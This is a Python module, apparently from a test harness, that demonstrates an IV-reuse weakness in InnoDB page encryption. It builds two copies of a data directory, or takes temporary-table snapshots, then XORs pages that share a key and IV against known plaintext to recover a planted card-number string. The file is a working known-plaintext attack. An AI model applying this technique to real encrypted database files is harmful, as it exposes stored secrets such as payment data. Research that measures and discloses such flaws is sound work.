"""Looks at two pages that were encrypted under the same key and IV, and reads in the one what is not in the other.

The IV of a page is made of its tablespace, its number and its LSN. Copies of a data directory go on from the same LSN,
and the pages of temporary tables have no LSN.
"""

import re

from aes import xor
from server import Failure

# How many pairs of copies are tried.
COPIES = 5
PAGE = 16384
FIRST, LAST = 26, PAGE - 4
LSN = slice(16, 24)
# What the attacker knows of the one page, and the secret in its place in the other.
MINE = "x" * 32
SECRET = "card 4929 1234 5678 9012, of Bob"
KNOWN_SECRET = re.compile(re.escape(SECRET.encode()))


def _pages(content):
    """The pages of a file, without the first, which is never encrypted."""
    return [content[at:at + PAGE] for at in range(PAGE, len(content), PAGE)]


def _look(site, what, pairs):
    """Compares pages with equal IVs: tells how much of them is equal, and whether the secret can be read."""
    if not pairs:
        raise Failure(f"no IV was used twice in {what}")
    equal = sum(one[at:at + 16] == other[at:at + 16] for one, other in pairs for at in range(FIRST, LAST - 15, 16))
    blocks = len(pairs) * len(range(FIRST, LAST - 15, 16))
    site.measured(f"{what}: {len(pairs)} changed pages under the same IV, {equal} of {blocks} blocks equal")
    known = MINE.encode() * (PAGE // len(MINE))
    return any(KNOWN_SECRET.search(xor(xor(one, other), known)) for one, other in pairs)


def of_copied_data(site, store):
    """A row of one copy, read with another copy of the same data; None if it cannot be."""
    first = site.bare(store)
    first.start()
    first.sql("CREATE DATABASE shop", "CREATE TABLE shop.cards (id INT PRIMARY KEY, card CHAR(32))",
              "INSERT INTO shop.cards SELECT seq, MD5(seq) FROM shop.seq_1_to_200")
    first.stop()
    # Now and then a server writes something of its own first, and the LSNs are others then.
    for number in range(COPIES):
        copies = [site.bare(store, f"{name}{number}", first.data) for name in ("one", "other")]
        for host, text in zip(copies, (MINE, SECRET)):
            host.start()
            host.sql(f"UPDATE shop.cards SET card = '{text}' WHERE id = 100")
            host.stop()
        pages = zip(*(_pages((host.data / "shop/cards.ibd").read_bytes()) for host in copies))
        # Encrypted in both, under the same key version and the same LSN; a page's place is its number.
        pairs = [(one, other) for one, other in pages
                 if one != other and any(one[:4]) and one[:4] == other[:4] and one[LSN] == other[LSN]]
        if pairs:
            break
    read = _look(site, "cards.ibd", pairs)
    return f"in the other copy: {SECRET}" if read else None


def of_temporary_tables(site, store):
    """What a temporary table holds now, read with an earlier copy of its file; None if it cannot be."""
    host = site.bare(store)
    host.start()
    file, rows = host.data / "ibtmp1", 12_000
    with host.server.connect() as connection:
        connection.query("CREATE DATABASE shop")
        connection.query("CREATE TEMPORARY TABLE shop.cart (id INT PRIMARY KEY, card CHAR(32), more CHAR(200), even CHAR(250),"
                         " most CHAR(250)) ENGINE=InnoDB")
        connection.query(f"INSERT INTO shop.cart SELECT seq, '{MINE}', SHA2(seq, 512), SHA2(-seq, 512), SHA2(seq * 2, 512) "
                         f"FROM shop.seq_1_to_{rows}")
        copies = [_pages(file.read_bytes())]
        connection.query(f"UPDATE shop.cart SET card = '{SECRET}'")
        copies.append(_pages(file.read_bytes()))
    # A page of zeros was not written yet.
    read = _look(site, "ibtmp1", [(one, other) for one, other in zip(*copies) if one != other and any(one) and any(other)])
    return f"in the temporary table: {SECRET}" if read else None
